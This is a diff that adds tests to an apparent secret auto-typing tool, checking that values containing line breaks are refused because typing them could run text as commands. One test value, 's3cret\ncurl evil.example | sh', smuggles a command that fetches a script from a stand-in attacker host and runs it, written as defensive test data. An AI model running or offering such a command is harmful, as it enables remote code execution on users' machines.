@@ -147,6 +147,39 @@ describe('What is typed', () => {
   });
 });
 
+describe('A value with a line break', () => {
+  /** Starts with such a value, and lets the countdown pass. */
+  async function typeLines(value: string): Promise<void> {
+    await scene.start();
+    const [loan] = scene.loans;
+    if (loan) loan.read = () => Promise.resolve(value);
+    keyboard.focused = anotherWindow();
+    await clock.advance(2_100);
+  }
+
+  test.each(['s3cret\ncurl evil.example | sh', 's3cret\r', 's3cret\r\n', '\ns3cret'])(
+    'is not typed, which could run it as commands, and the failure says what to do: %j',
+    async (value) => {
+      await typeLines(value);
+      expect(keyboard.orders).toEqual([]);
+      expect(typing.state).toEqual({
+        is: 'failed',
+        of,
+        message: text.lineBreak,
+        nextStep: text.lineBreakNext,
+      });
+      expect(JSON.stringify(scene.states)).not.toContain('s3cret');
+      expect(scene.loans[0]?.ends).toBe(1);
+    },
+  );
+
+  test('is typed if the person has allowed that for the login', async () => {
+    begin({ login: aLogin(), terms: { lineBreaks: true } });
+    await typeLines('line one\nline two');
+    expect(keyboard.orders).toMatchObject([{ text: 'line one\nline two' }]);
+  });
+});
+
 describe('The result', () => {
   test('of a whole text is shown for two seconds', async () => {
     await startTyping();
